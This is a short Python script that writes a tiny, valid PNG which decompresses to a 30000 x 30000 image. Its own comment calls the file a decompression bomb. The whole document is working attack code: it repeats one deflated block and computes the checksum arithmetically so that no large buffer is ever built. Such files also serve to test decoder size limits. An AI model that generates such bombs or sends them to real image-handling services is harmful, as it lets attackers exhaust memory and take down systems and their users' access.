# Writes a valid 8-bit grey PNG of 30000 x 30000 zero pixels in ~0.9 MB: a decompression
# bomb (900 MB of pixels, 14 GB as RGBA float). Each 1000-row block is deflated once and
# repeated (a full flush resets the window, so every block compresses alike); the Adler-32
# of n zero bytes is (n mod 65521) << 16 | 1, so nothing the size of the image is made.
import struct
import sys
import zlib


def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)


side = 30000
rows = 1000
deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
block = deflate.compress(bytes((side + 1) * rows)) + deflate.flush(zlib.Z_FULL_FLUSH)
size = (side + 1) * side
adler = ((size % 65521) << 16) | 1
# zlib header, the blocks, an empty final fixed-Huffman block, the Adler-32.
idat = b'\x78\xda' + block * (side // rows) + b'\x03\x00' + struct.pack('>I', adler)
png = (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', side, side, 8, 0, 0, 0, 0)) +
       chunk(b'IDAT', idat) + chunk(b'IEND', b''))
with open(sys.argv[1], 'wb') as out:
    out.write(png)
